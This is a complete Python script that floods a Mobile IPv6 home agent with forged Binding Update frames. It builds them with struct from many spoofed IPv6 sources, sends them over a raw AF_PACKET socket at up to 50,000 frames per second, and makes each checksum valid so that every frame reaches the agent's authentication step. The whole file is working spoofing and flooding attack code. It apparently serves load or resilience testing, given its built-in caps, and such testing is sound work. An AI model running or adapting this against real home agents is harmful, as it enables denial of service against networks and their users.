#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""A flood of forged Binding Updates at a rate scapy cannot reach: frames are
built once with struct (IPv6, Destination Options with a Home Address option,
a BU with Replay Protection and an MN-HA Authentication option whose
authenticator is random), then sent from an AF_PACKET socket, paced in small
batches. Only the IPv6 source changes from frame to frame; with a Home Address
option the MH checksum covers the home address, not the source, so every
frame has a valid checksum and reaches the home agent's authentication.

    bu_flood.py --iface IF --dst-mac MAC --src-mac MAC --ha HA --hoa H [--hoa H2 ...]
                --source-prefix P::/64 --sources N --rate PPS --seconds S

Prints one JSON object: frames sent, seconds taken, achieved rate.
"""
import argparse
import ipaddress
import json
import os
import socket
import struct
import sys
import time

import mh_wire
import rfc4285


def mac(s):
    return bytes(int(x, 16) for x in s.split(":"))


def bu_mh(ha: str, hoa: str, seq: int) -> bytes:
    # Fixed part (seq, A|H, lifetime 60 s), PadN(4) so Replay Protection sits
    # at 8n+2, Pad1 so Authentication sits at 4n+1 (RFC 4285 alignments).
    body = struct.pack("!HHH", seq, 0xC000, 15)
    opts = b"\x01\x04\0\0\0\0" + struct.pack("!BBQ", 10, 8, rfc4285.ntp()) + b"\x00"
    opts += struct.pack("!BBBI", 9, 17, 1, 4097) + os.urandom(12)
    mh = struct.pack("!BBBBH", 59, (6 + len(body) + len(opts)) // 8 - 1, 5, 0, 0) + body + opts
    assert len(mh) % 8 == 0
    return mh[:4] + struct.pack("!H", mh_wire.mh_checksum(hoa, ha, mh)) + mh[6:]


def frame(dst_mac, src_mac, src, ha, hoa, mh) -> bytes:
    dstopt = struct.pack("!BB", 135, 2) + b"\x01\x02\0\0" + struct.pack("!BB", 0xC9, 16) + \
        ipaddress.IPv6Address(hoa).packed
    payload = dstopt + mh
    ip6 = struct.pack("!IHBB", 6 << 28, len(payload), 60, 64) + src + ipaddress.IPv6Address(ha).packed
    return dst_mac + src_mac + b"\x86\xdd" + ip6 + payload


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    for opt in ("--iface", "--dst-mac", "--src-mac", "--ha", "--source-prefix"):
        ap.add_argument(opt, required=True)
    ap.add_argument("--hoa", action="append", required=True)
    ap.add_argument("--sources", type=int, default=5000)
    ap.add_argument("--rate", type=int, default=10000)
    ap.add_argument("--seconds", type=float, default=10.0)
    a = ap.parse_args()
    if not (0 < a.rate <= 50000 and 0 < a.seconds <= 30 and 0 < a.sources <= 65535):
        sys.exit("bu_flood.py: keep it bounded: rate <= 50000/s, seconds <= 30, sources <= 65535")

    net = ipaddress.IPv6Network(a.source_prefix)
    dst_mac, src_mac = mac(a.dst_mac), mac(a.src_mac)
    mhs = [bu_mh(a.ha, hoa, 1000 + i) for i, hoa in enumerate(a.hoa)]
    # Source i sends for home address i mod len(hoa): a few templates, many sources.
    frames = []
    for i in range(a.sources):
        src = (net.network_address + 1 + i).packed
        k = i % len(a.hoa)
        frames.append(frame(dst_mac, src_mac, src, a.ha, a.hoa[k], mhs[k]))

    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.iface, 0))
    total = int(a.rate * a.seconds)
    batch = max(1, a.rate // 200)  # 5 ms worth per batch
    start = time.monotonic()
    sent = 0
    n = len(frames)
    while sent < total:
        for _ in range(min(batch, total - sent)):
            try:
                s.send(frames[sent % n])
            except BlockingIOError:
                pass
            except OSError as e:  # ENOBUFS under pressure: count it as not sent
                if e.errno != 105:
                    raise
                continue
            sent += 1
        # Pace: where we should be after `sent` frames.
        ahead = sent / a.rate - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)
    took = time.monotonic() - start
    json.dump({"sent": sent, "seconds": round(took, 3), "rate": round(sent / took)}, sys.stdout)
    sys.stdout.write("\n")


if __name__ == "__main__":
    main()
